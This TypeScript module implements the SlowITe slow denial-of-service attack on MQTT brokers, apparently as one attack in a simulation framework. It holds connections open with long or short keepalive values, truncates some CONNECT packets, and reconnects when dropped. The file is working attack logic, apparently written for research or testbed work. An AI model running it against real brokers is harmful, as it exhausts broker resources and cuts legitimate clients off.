// SlowITe: few connections, held open indefinitely.

import type { Attack } from '../attacker.js'
import { connectPacket } from '../packets.js'

/** SlowITe (Vaccari, Aiello, Cambiaso 2020): idle connections that stay open as long as keepalive allows. */
export const slowIte: Attack = {
  name: 'slowite',
  summary:
    'SlowITe: 3 to 5 addresses hold 60 to 100 idle connections each, with the longest keepalive or a short one and reconnection when the broker closes them; some never complete their CONNECT',
  attackers: [3, 5],
  async run(attacker) {
    const { random } = attacker
    const count = random.integer(60, 100)
    const keepalive = random.oneOf([4, 6, 65_535])
    const hold = async (): Promise<void> => {
      while (!attacker.over) {
        const isHalf = random.chance(0.15)
        const socket = await attacker.connect()
        if (socket === null) {
          await attacker.pause(1_000)
          continue
        }
        const bytes = connectPacket({ clientId: random.text(16), keepalive })
        await attacker.send(socket, isHalf ? bytes.subarray(0, random.integer(1, bytes.length - 1)) : bytes)
        await Promise.race([new Promise(resolve => socket.once('close', resolve)), attacker.pause(3_600_000)])
      }
    }
    const holding: Promise<void>[] = []
    for (let i = 0; i < count && !attacker.over; i++) {
      holding.push(hold())
      await attacker.pause(random.between(40, 120))
    }
    await Promise.all(holding)
  }
}
